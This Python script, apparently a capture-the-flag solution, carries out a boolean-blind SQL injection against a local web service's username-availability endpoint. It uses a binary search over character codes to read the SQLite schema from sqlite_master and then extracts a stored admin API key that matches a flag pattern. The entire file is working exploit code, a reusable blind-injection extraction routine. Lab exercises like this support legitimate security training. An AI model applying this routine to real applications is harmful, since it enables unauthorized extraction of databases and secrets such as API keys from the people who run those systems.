"""Boolean-blind injection: "available" is false exactly when the injected condition holds.
Read the schema from sqlite_master a character at a time (binary search on the code point),
then the admin-api key."""

import json
import re
import urllib.parse
import urllib.request

session = urllib.request.build_opener()


def holds(condition: str) -> bool:
    name = f"nobody' OR ({condition}) -- "
    url = "http://127.0.0.1:9201/api/available?" + urllib.parse.urlencode({"username": name})
    with session.open(url, timeout=10) as response:
        return not json.load(response)["available"]


def number(expression: str) -> int:
    low, high = 0, 1
    while holds(f"({expression}) >= {high}"):
        high *= 2
    while low + 1 < high:  # expression in [low, high)
        middle = (low + high) // 2
        low, high = (middle, high) if holds(f"({expression}) >= {middle}") else (low, middle)
    return low


def text(expression: str) -> str:
    length = number(f"length(({expression}))")
    return "".join(
        chr(number(f"unicode(substr(({expression}), {i}, 1))")) for i in range(1, length + 1)
    )


schema = text("SELECT group_concat(sql, ';') FROM sqlite_master WHERE type = 'table'")
table, column = next(
    (t, c)
    for t, body in re.findall(r"CREATE TABLE (\w+) \(([^;]*)\)", schema)
    for c in re.findall(r"(\w*key\w*) TEXT", body)
)
key = text(f"SELECT group_concat({column}, ' ') FROM {table} WHERE {column} LIKE 'flag%'")
print(re.search(r"flag\{[0-9a-f]{32}\}", key).group(0))
